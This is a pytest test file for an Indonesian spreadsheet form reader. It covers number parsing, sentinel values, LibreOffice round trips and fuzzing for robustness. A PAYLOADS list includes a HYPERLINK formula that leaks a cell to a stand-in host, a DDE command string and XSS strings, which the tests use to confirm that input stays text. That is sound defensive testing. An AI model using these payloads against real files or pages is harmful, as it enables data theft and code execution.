"""docs/reliability.md E cases 29-65 at form level: status, code and cell for each returned file."""

from __future__ import annotations

import datetime as dt
import io
import random
import re
import shutil
import signal
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from kinerja_cli.domain.findings import ERROR
from kinerja_cli.domain.models import Narasi
from kinerja_cli.domain.periode import Periode
from kinerja_cli.domain.rules import RULES
from kinerja_cli.io.form.reader import FormRead, read_form
from support.form_corpus import (
    ANGGARAN,
    CASES,
    KINERJA_XML,
    NAME,
    NARASI,
    VALUES,
    Case,
    case_percent_formatted,
    check,
    codes,
    edit,
    example_pk,
    fill,
    filled,
    read,
    set_cells,
)

pytestmark = pytest.mark.slow  # whole cycles / rendering / fuzzing: the full run only

D = Decimal
KODE_TEMUAN = {c.value: r for c, r in RULES.items()}


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_corpus_case(case: Case) -> None:
    res = read(case.build(), name=case.name, periode_wajib=case.periode_wajib)
    check(res, case.ok, *case.expect)
    if case.only:
        assert {f.code for f in res.findings} == {e.code for e in case.expect}, [
            f.line() for f in res.findings
        ]
    if case.check is not None:
        case.check(res)
    assert codes(res) <= set(KODE_TEMUAN)


def test_corpus_is_big_enough() -> None:
    numbered = {c.id.split("-")[0] for c in CASES if c.id[0].isdigit()}
    assert len(CASES) + len(TEXT_NUMBERS) + len(SENTINELS) + 3 >= 35
    assert len(numbered) >= 20


def test_wrong_period_keeps_the_values_for_diff() -> None:
    res = read(filled(), periode_wajib=Periode(3))
    assert res.periode is not None and res.periode.kode == "TW2"
    assert res.data.realisasi == VALUES


def test_identity_recognised_three_ways() -> None:
    by_sheet = read(filled())
    assert by_sheet.identitas == "lembar" and by_sheet.form_id and by_sheet.sidik_pk
    by_id = read(next(c for c in CASES if c.id == "31-identity-sheet-deleted-id-kept").build())
    assert by_id.identitas == "id" and by_id.form_id == by_sheet.form_id
    by_codes = read(next(c for c in CASES if c.id == "31-identity-deleted").build())
    assert by_codes.identitas == "kode" and by_codes.bidang == "BM" and by_codes.form_id is None
    assert by_codes.periode is not None and by_codes.periode.kode == "TW2"


def test_other_year_is_not_parsed() -> None:
    res = read(next(c for c in CASES if c.id == "33-other-year").build())
    assert res.data is None and res.tahun == 2024 and res.bidang == "BM"


def test_pk_changed_since_the_form_was_made() -> None:
    from dataclasses import replace

    pk = example_pk()
    inds = tuple(
        replace(i, target=D(13), target_teks="13") if i.kode == "IK.12" else i for i in pk.indikator
    )
    res = read(filled(), pk=replace(pk, indikator=inds))
    check(res, False)
    assert {f.code for f in res.findings} == {"pk-berubah", "target-diubah"}
    changed = next(f for f in res.findings if f.code == "target-diubah")
    assert (changed.cell, changed.kode) == ("G9", "IK.12")
    assert res.data.realisasi == VALUES


# ---- 51 Indonesian text numbers, 53 sentinels ----------------------------------------------

TEXT_NUMBERS = [
    ("1.234,56", D("1234.56")),
    ("1.500", D("1500")),
    ("85%", D("85")),
    ("85\u00a0%", D("85")),
    ("Rp 1.500.000", D("1500000")),
    ("Rp. 1.500.000,-", D("1500000")),
    ("0,85", D("0.85")),
    (" 85 ", D("85")),
    ("\uff11\uff12\uff13", D("123")),
    ("65.4", D("65.4")),
]


@pytest.mark.parametrize(("text", "expected"), TEXT_NUMBERS, ids=[t for t, _ in TEXT_NUMBERS])
def test_51_indonesian_text_numbers(text: str, expected: Decimal) -> None:
    res = read(set_cells(filled(), J10=text, K10=text))  # IK.13, km, kumulatif
    assert res.ok, [f.line() for f in res.findings]
    assert res.data.realisasi["IK.13"] == [expected, expected]
    assert not [
        f
        for f in res.findings
        if f.cell in ("J10", "K10")
        and f.code != "narasi-wajib-kosong"
        and f.code != "perubahan-besar"
    ]


def test_51_rupiah_text_in_budget() -> None:
    res = read(set_cells(filled(), "Anggaran", E9="Rp 1.500.000.000", D9="Rp1.000.000.000,00"))
    assert res.ok and res.data.anggaran["1.03.10.2.01.0032"] == [D(1_000_000_000), D(1_500_000_000)]


def test_52_suggestion_for_english_habit() -> None:
    res = read(set_cells(filled(), K10="1,234.56", K11="1.23.4"))
    msg = {f.cell: f.message for f in res.findings if f.code == "realisasi-bukan-angka"}
    assert "1.234,56" in msg["K10"] and "123,4" in msg["K11"]


SENTINELS = ["-", "n/a", "NA", "belum ada data", "nihil", "tidak tersedia"]


@pytest.mark.parametrize("text", SENTINELS)
def test_53_sentinels_are_not_zero(text: str) -> None:
    res = read(set_cells(filled(), K7=text))
    check(res, False)
    f = next(f for f in res.findings if f.cell == "K7")
    assert (f.code, f.severity, f.kode) == ("realisasi-tanpa-data", ERROR, "IK.10")
    assert res.data.realisasi["IK.10"] == [D("61.5"), None]


def test_54_negative_count() -> None:
    res = read(set_cells(filled(), K9=-5))
    check(res, False)
    assert [(f.code, f.cell) for f in res.findings] == [("realisasi-negatif", "K9")]


# ---- 58/59 injection payloads stay text -----------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://x.example/?d="&A2,"Klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    '=1+2";=1+2',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    '" onmouseover="x',
]


def test_58_59_payloads_stay_text() -> None:
    narasi = {}
    for kode, a, b in zip(VALUES, PAYLOADS, PAYLOADS[3:] + PAYLOADS[:3], strict=False):
        narasi[kode] = Narasi(a, b, a, b)
    res = read(fill(filled(), {}, narasi))
    assert res.ok, [f.line() for f in res.findings]
    assert res.data.narasi == {**NARASI, **narasi}
    xml = zipfile.ZipFile(io.BytesIO(fill(filled(), {}, narasi))).read(KINERJA_XML)
    assert b"<f>" not in xml  # written as text by the filler, read back as text


# ---- 64 LibreOffice round trip ---------------------------------------------------------------


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice not installed")
def test_64_libreoffice_round_trip(tmp_path: Path) -> None:
    src = tmp_path / NAME
    src.write_bytes(filled())
    out = tmp_path / "lo"
    proc = subprocess.run(
        [
            "soffice",
            "--headless",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            str(src),
        ],
        capture_output=True,
        timeout=180,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    data = (out / NAME).read_bytes()
    states = zipfile.ZipFile(io.BytesIO(data)).read("xl/workbook.xml")
    assert b'state="hidden"' in states and b"veryHidden" not in states
    res = read_form(data, NAME, example_pk(), periode_wajib=Periode(2))
    assert res.ok and res.findings == [], [f.line() for f in res.findings]
    assert res.identitas == "lembar" and res.producer == "LibreOffice"
    assert res.data.realisasi == VALUES and res.data.narasi == NARASI
    assert res.data.anggaran == ANGGARAN


def _via_libreoffice(tmp_path: Path, data: bytes) -> bytes:
    tmp_path.mkdir(parents=True, exist_ok=True)
    src = tmp_path / NAME
    src.write_bytes(data)
    out = tmp_path / "lo"
    proc = subprocess.run(
        [
            "soffice",
            "--headless",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            str(src),
        ],
        capture_output=True,
        timeout=180,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    return (out / NAME).read_bytes()


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice not installed")
def test_percent_typed_as_a_fraction_in_libreoffice(tmp_path: Path) -> None:
    """ "64,42%" typed in LibreOffice can be stored as 0,6442 in a cell that keeps the form's
    plain number format: against a target of 65 that is an error showing both readings; with
    the cell formatted as % it is read as 64,42."""
    plain = _via_libreoffice(tmp_path / "a", case_percent_formatted(0.6442, None))
    res = read_form(plain, NAME, example_pk(), periode_wajib=Periode(2))
    bad = [f for f in res.findings if f.code == "persen-skala-ambigu"]
    assert [(f.severity, f.cell, f.kode) for f in bad] == [("error", "K7", "IK.10")]
    assert "0,6442%" in bad[0].message and "64,42" in bad[0].message and not res.ok
    shown = _via_libreoffice(tmp_path / "b", case_percent_formatted(0.6442, "0.00%"))
    res = read_form(shown, NAME, example_pk(), periode_wajib=Periode(2))
    assert res.ok and res.data.realisasi["IK.10"][1] == D("64.42")


# ---- never raises: random corruption ------------------------------------------------------


# Shrinking a 5-second timeout would take minutes; the failing example is printed as is.
_NO_SHRINK = (Phase.explicit, Phase.reuse, Phase.generate)


def _read_bounded(data: bytes, seconds: int = 5) -> FormRead:
    """read_form, failing instead of hanging: a hostile file must cost bounded time (A2).

    The alarm's exception is swallowed by the boundaries it interrupts (they turn any
    surprise into file-corrupt), so the flag, not the exception, carries the verdict.
    """
    if not hasattr(signal, "SIGALRM"):
        return read(data)
    expired: list[bool] = []

    def on_alarm(*_: object) -> None:
        expired.append(True)
        raise TimeoutError

    old = signal.signal(signal.SIGALRM, on_alarm)
    signal.alarm(seconds)
    try:
        res = read(data)
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)
    assert not expired, f"read_form took more than {seconds} s"
    return res


def _assert_sane(res: FormRead) -> None:
    assert isinstance(res, FormRead)
    assert codes(res) <= set(KODE_TEMUAN), codes(res) - set(KODE_TEMUAN)
    if not res.ok:
        assert res.data is None or any(f.severity == ERROR for f in res.findings)


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow], phases=_NO_SHRINK
)
@given(st.lists(st.tuples(st.integers(0, 1 << 30), st.integers(1, 255)), min_size=1, max_size=8))
def test_random_byte_flips_never_raise(flips: list[tuple[int, int]]) -> None:
    data = bytearray(filled())
    for pos, xor in flips:
        data[pos % len(data)] ^= xor
    _assert_sane(_read_bounded(bytes(data)))


_MEMBERS = [
    KINERJA_XML,
    "xl/worksheets/sheet3.xml",
    "xl/worksheets/sheet4.xml",
    "xl/workbook.xml",
    "xl/styles.xml",
    "docProps/custom.xml",
    "[Content_Types].xml",
]


@settings(
    max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow], phases=_NO_SHRINK
)
@given(
    member=st.sampled_from(_MEMBERS),
    seed=st.integers(0, 1 << 32),
    insert=st.text(
        alphabet=st.sampled_from([*'<>/="&;#x0123 abcvfr:', "\u00a0", "é"]), max_size=20
    ),
)
def test_random_xml_edits_never_raise(member: str, seed: int, insert: str) -> None:
    from support.corpus import read_member, rewrite_zip

    xml = read_member(filled(), member)
    rng = random.Random(seed)
    a = rng.randrange(len(xml))
    b = min(len(xml), a + rng.randrange(0, 40))
    op = rng.choice(["delete", "insert", "duplicate"])
    if op == "delete":
        xml = xml[:a] + xml[b:]
    elif op == "insert":
        xml = xml[:a] + insert.encode() + xml[a:]
    else:
        xml = xml[:b] + xml[a:b] + xml[b:]
    _assert_sane(_read_bounded(rewrite_zip(filled(), member, xml)))


_VALUE = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(10**18), 10**18),
    st.floats(allow_nan=True, allow_infinity=True),
    st.decimals(
        allow_nan=False, allow_infinity=False, places=4, min_value=-(10**9), max_value=10**9
    ),
    st.datetimes(min_value=dt.datetime(1900, 3, 1), max_value=dt.datetime(2100, 1, 1)),
    st.text(max_size=40),
    st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40),
    st.sampled_from(
        [
            "=1+2",
            "1.234,56",
            "１２３",
            "\u00a0",
            "#DIV/0!",
            "Ada",
            "-",
            "n/a",
            1e30,
            1e300,
            -1e-300,
            "9" * 400,
            "1" + ".000" * 150,
            2**63,
        ]
    ),
)


@settings(
    max_examples=40,
    deadline=None,
    phases=_NO_SHRINK,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(
    st.dictionaries(
        st.sampled_from(
            ["J7", "K7", "K8", "K10", "L7", "M8", "G7", "B9", "D7", "K12", "O12", "P13"]
        ),
        _VALUE,
        min_size=1,
        max_size=6,
    )
)
def test_random_cell_values_never_raise(cells: dict[str, object]) -> None:
    from openpyxl.utils.exceptions import IllegalCharacterError

    try:
        data = edit(
            filled(), lambda wb: [wb["Kinerja"].__setitem__(k, v) for k, v in cells.items()]
        )
    except (IllegalCharacterError, ValueError, TypeError, OverflowError):
        return  # openpyxl refuses to write it: no such file can exist
    _assert_sane(_read_bounded(data))


def test_unbalanced_quote_in_sheet_xml_is_read_in_bounded_time() -> None:
    """Found by test_random_xml_edits: two bytes lost from `s="5" t="n"` in a real form."""
    from support.corpus import read_member, rewrite_zip

    xml = read_member(filled(), KINERJA_XML)
    broken = re.sub(rb'(<c r="A12" s="\d+)" (t="n")', rb"\1\2", xml, count=1)
    assert broken != xml
    res = _read_bounded(rewrite_zip(filled(), KINERJA_XML, broken))
    assert not res.ok


def test_every_corpus_file_read_again_gives_the_same_answer() -> None:
    for case in CASES[:10]:
        data = case.build()
        a = read(data, name=case.name, periode_wajib=case.periode_wajib)
        b = read(data, name=case.name, periode_wajib=case.periode_wajib)
        assert a.findings == b.findings and a.data == b.data


def test_set_cells_helper_keeps_text() -> None:
    res = read(set_cells(filled(), K7="=1+2"))
    assert [(f.code, f.cell) for f in res.findings] == [("realisasi-bukan-angka", "K7")]
